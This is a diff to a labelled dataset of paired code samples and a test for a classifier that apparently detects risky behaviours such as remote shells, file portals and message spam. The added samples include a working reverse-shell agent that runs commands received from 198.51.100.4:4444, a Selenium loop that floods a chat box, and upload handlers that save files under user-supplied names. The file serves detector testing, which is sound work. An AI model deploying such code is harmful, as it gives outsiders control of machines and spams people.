@@ -283,6 +283,20 @@ PAIRS = [
      "    conn, addr = srv.accept()\n    data = conn.recv(64)\n    if data.strip() == b'gpu':\n"
      "        out = subprocess.run('nvidia-smi --query-gpu=utilization.gpu --format=csv', shell=True,\n"
      "                             capture_output=True).stdout\n        conn.sendall(out)\n    conn.close()"),
+    ("shell: a connection read by one helper method and the command run by another; the same helpers running a "
+     "fixed command when asked", "remote_desktop_ssh",
+     "import json, socket, subprocess\nclass Agent:\n    def __init__(self, host, port):\n"
+     "        self.link = socket.socket()\n        self.link.connect((host, port))\n"
+     "    def receive(self):\n        data = self.link.recv(4096)\n        return json.loads(data)\n"
+     "    def execute(self, command):\n        return subprocess.check_output(command, shell=True)\n"
+     "    def loop(self):\n        while True:\n            order = self.receive()\n"
+     "            self.link.send(self.execute(order))\nAgent('198.51.100.4', 4444).loop()",
+     "import json, socket, subprocess\nclass Agent:\n    def __init__(self, host, port):\n"
+     "        self.link = socket.socket()\n        self.link.connect((host, port))\n"
+     "    def receive(self):\n        data = self.link.recv(4096)\n        return json.loads(data)\n"
+     "    def execute(self, command):\n        return subprocess.check_output(command, shell=True)\n"
+     "    def loop(self):\n        while True:\n            order = self.receive()\n            if order == 'load':\n"
+     "                self.link.send(self.execute('uptime'))\nAgent('198.51.100.4', 4444).loop()"),
     ("server: bottle's static_file on every interface", "web_file_hosting",
      "from bottle import route, run, static_file\n@route('/f/<name>')\ndef f(name):\n"
      "    return static_file(name, root='/content/share')\nrun(host='0.0.0.0', port=8080)",
@@ -478,8 +492,9 @@ PAIRS = [
      "from fastapi import FastAPI\nfrom fastapi.staticfiles import StaticFiles\nimport uvicorn\napp = FastAPI()\n"
      "app.mount('/docs', StaticFiles(directory='site'), name='docs')\nuvicorn.run(app, port=8000)"),
     ("server: upload portal", "web_file_hosting",
-     "from flask import Flask, request\napp = Flask(__name__)\n@app.route('/up', methods=['POST'])\ndef up():\n"
+     "import os\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/up', methods=['POST'])\ndef up():\n"
      "    request.files['f'].save('/content/shared/' + request.files['f'].filename)\n    return 'ok'\n"
+     "@app.route('/')\ndef index():\n    return '<br>'.join(os.listdir('/content/shared'))\n"
      "app.run(host='0.0.0.0', port=8000)",
      "from flask import Flask, request\napp = Flask(__name__)\n@app.route('/up', methods=['POST'])\ndef up():\n"
      "    request.files['f'].save('/tmp/x')\n    return 'ok'\napp.run(port=8000)"),
@@ -746,6 +761,16 @@ PAIRS = [
      "d.get('https://shop.example.com')\nbox = d.find_element('name', 'q')\n"
      "for term in ['laptop', 'mouse', 'monitor', 'keyboard', 'webcam']:\n    box.clear()\n    box.send_keys(term)\n"
      "    box.send_keys(Keys.ENTER)\n    print(term, len(d.find_elements('css selector', '.result')))"),
+    ("message storm: a chat box typed into and its send button clicked as often as asked; a form sent per row",
+     "dos_attack",
+     "from selenium import webdriver\nfrom selenium.webdriver.common.by import By\nd = webdriver.Firefox()\n"
+     "d.get('https://chat.example.com')\ntext = input('message: ')\ntimes = int(input('how many: '))\n"
+     "for n in range(times):\n    field = d.find_element(By.CSS_SELECTOR, 'div[contenteditable]')\n"
+     "    field.send_keys(text)\n    d.find_element(By.XPATH, \"//span[@data-icon='send']\").click()",
+     "from selenium import webdriver\nfrom selenium.webdriver.common.by import By\nimport csv\nd = webdriver.Firefox()\n"
+     "for row in csv.DictReader(open('signups.csv')):\n    d.get('https://forms.example.com/join')\n"
+     "    d.find_element(By.NAME, 'email').send_keys(row['email'])\n"
+     "    send_button = d.find_element(By.ID, 'submit')\n    send_button.click()"),
     ("message storm: a channel spammed for every item of a list; a remark sent only for the items that match",
      "dos_attack",
      "import discord\nclient = discord.Client(intents=discord.Intents.all())\n@client.event\nasync def on_message(message):\n"
@@ -1223,16 +1248,19 @@ def test_runner_arguments_built_in_variables_are_read(engine):
 
 
 def test_an_upload_is_file_hosting_only_when_it_is_kept():
-    """A form that reads an upload and answers (an image-analysis API behind a tunnel) stores nothing for anyone;
-    one that writes the upload to disk is the start of a file portal."""
+    """A form that reads an upload and answers (an image-analysis API behind a tunnel) keeps nothing for anyone,
+    nor does one that saves it where its model reads it; one that keeps uploads and lists them to visitors is a
+    file portal (eval/LABELS.md)."""
     import ast
 
     head = ("import uvicorn, shutil\nfrom fastapi import FastAPI, UploadFile\napp = FastAPI()\n"
             "@app.post('/in')\nasync def take(doc: UploadFile):\n")
     kept = head + "    with open('/srv/pool/' + doc.filename, 'wb') as out:\n        shutil.copyfileobj(doc.file, out)\n"
+    listed = "@app.get('/')\nasync def index():\n    return sorted(os.listdir('/srv/pool'))\n"
     read = head + "    data = await doc.read()\n    return {'bytes': len(data)}\n"
     tail = "uvicorn.run(app, port=8000)\n"
-    assert "server-local/files" in {f.shape for f in behaviour.find(ast.parse(kept + tail))}
+    assert "server-local/files" in {f.shape for f in behaviour.find(ast.parse("import os\n" + kept + listed + tail))}
+    assert not any(f.shape.endswith("/files") for f in behaviour.find(ast.parse(kept + tail)))
     assert not any(f.shape.endswith("/files") for f in behaviour.find(ast.parse(read + tail)))
 
 
